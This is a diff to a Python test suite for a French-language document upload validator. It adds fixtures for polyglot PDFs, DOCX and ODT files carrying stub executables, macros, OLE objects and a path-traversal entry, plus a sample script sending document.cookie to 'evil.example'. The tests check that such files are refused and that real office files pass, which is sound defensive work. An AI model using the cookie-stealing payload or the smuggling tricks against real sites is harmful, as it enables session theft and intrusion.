@@ -36,6 +36,53 @@ ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x90" *
 MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"PE\x00\x00" + b"\x90" * 200
 
 
+HTML = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>"
+# The parts of real files: Word 2016 (via python-docx's template), LibreOffice 24 (DOCX and ODT).
+WORD_PARTS = {
+    name: b"<x/>"
+    for name in (
+        "[Content_Types].xml",
+        "_rels/.rels",
+        "customXml/_rels/item1.xml.rels",
+        "customXml/item1.xml",
+        "customXml/itemProps1.xml",
+        "docProps/app.xml",
+        "docProps/core.xml",
+        "docProps/custom.xml",
+        "word/_rels/document.xml.rels",
+        "word/document.xml",
+        "word/fontTable.xml",
+        "word/numbering.xml",
+        "word/settings.xml",
+        "word/styles.xml",
+        "word/stylesWithEffects.xml",
+        "word/theme/theme1.xml",
+        "word/webSettings.xml",
+        "word/footer1.xml",
+        "word/charts/chart1.xml",
+        "word/charts/_rels/chart1.xml.rels",
+    )
+} | {
+    "docProps/thumbnail.jpeg": b"\xff\xd8",
+    "word/media/image1.wmf": b"\xd7\xcd",
+    "word/media/image2.PNG": b"\x89PNG",
+    "word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK",
+}
+ODT_PARTS = {
+    "mimetype": b"application/vnd.oasis.opendocument.text",
+    **{
+        name: b"<x/>"
+        for name in (
+            "content.xml", "styles.xml", "meta.xml", "settings.xml", "manifest.rdf", "META-INF/manifest.xml",
+            "Configurations2/accelerator/current.xml", "Object 1/content.xml", "Object 1/styles.xml",
+        )
+    },
+    "Configurations2/toolbar/": b"", "Configurations2/images/Bitmaps/": b"", "Thumbnails/thumbnail.png": b"\x89PNG",
+    "Pictures/2000008600001923000012C24E0D0895.wmf": b"\xd7\xcd", "layout-cache": b"\x00\x01",
+    "ObjectReplacements/Object 1": b"\x00",
+}  # fmt: skip
+
+
 def _zip(entries: dict[str, bytes]) -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
@@ -90,6 +137,37 @@ REFUSED = [
         id="ods-named-odt",
     ),
     pytest.param("vide.pdf", b"", "est vide", id="empty"),
+    # Polyglots: a real document type carrying something else.
+    pytest.param("cr.pdf", PDF + _zip({"setup.exe": MZ}), "ne se termine pas comme un PDF", id="pdf-then-zip"),
+    pytest.param(
+        "cr.pdf", PDF + _zip({"setup.exe": MZ}) + b"%%EOF\n", "une archive ou une page web", id="pdf-then-zip-then-eof"
+    ),
+    pytest.param("cr.pdf", PDF + HTML, "ne se termine pas comme un PDF", id="pdf-then-html"),
+    pytest.param("cr.pdf", PDF + HTML + b"\n%%EOF\n", "une archive ou une page web", id="pdf-then-html-then-eof"),
+    pytest.param("cr.pdf", PDF[:-12], "ne se termine pas comme un PDF", id="pdf-truncated"),
+    pytest.param(
+        "cr.docx", _zip({**WORD_PARTS, "word/media/setup.exe": MZ}), "contient « word/media/setup.exe »", id="docx-exe"
+    ),
+    pytest.param("cr.docx", _zip({**WORD_PARTS, "setup.exe": MZ}), "contient « setup.exe »", id="docx-exe-at-root"),
+    pytest.param(
+        "cr.docx", _zip({**WORD_PARTS, "word/vbaProject.bin": b"\xd0\xcf"}), "« word/vbaProject.bin »", id="docx-macros"
+    ),
+    pytest.param(
+        "cr.docx",
+        _zip({**WORD_PARTS, "word/embeddings/oleObject1.bin": MZ}),
+        "« word/embeddings/oleObject1.bin »",
+        id="docx-ole-package",
+    ),
+    pytest.param(
+        "cr.docx", _zip({**WORD_PARTS, "word/../../evil.xml": b"<x/>"}), "« word/../../evil.xml »", id="docx-traversal"
+    ),
+    pytest.param("cr.odt", _zip({**ODT_PARTS, "Pictures/setup.exe": MZ}), "« Pictures/setup.exe »", id="odt-exe"),
+    pytest.param(
+        "cr.odt",
+        _zip({**ODT_PARTS, "Basic/Standard/Module1.xml": b"<m/>"}),
+        "« Basic/Standard/Module1.xml »",
+        id="odt-macros",
+    ),
 ]
 
 
@@ -105,6 +183,22 @@ def test_refused_upload_leaves_nothing(
     assert message.startswith("Le fichier « ") and fragment in message, message
     assert _state(session, uploads) == before == (0, before[1], before[2], [])
     assert not any(p.name.startswith("passwd") for p in tmp_path.rglob("*")), "a name reached the file system"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pytest.param(_zip(WORD_PARTS), id="docx-word-libreoffice"),
+        pytest.param(_zip(ODT_PARTS), id="odt-libreoffice"),
+        pytest.param(PDF.rstrip() + b"\r\n\x00 \n", id="pdf-trailing-whitespace"),
+        pytest.param(
+            PDF + b"2 0 obj <<>> endobj\nxref\ntrailer <<>>\nstartxref\n42\n%%EOF", id="pdf-incremental-update"
+        ),
+    ],
+)
+def test_real_documents_are_accepted(session: Session, rencontre_id: int, uploads: Path, content: bytes) -> None:
+    document = add_document(session, actor=REFERENT_93, rencontre_id=rencontre_id, filename="cr", content=content)
+    assert (uploads / document.sha256).read_bytes() == content
 
 
 def test_oversized_file_is_exactly_one_byte_too_many() -> None:
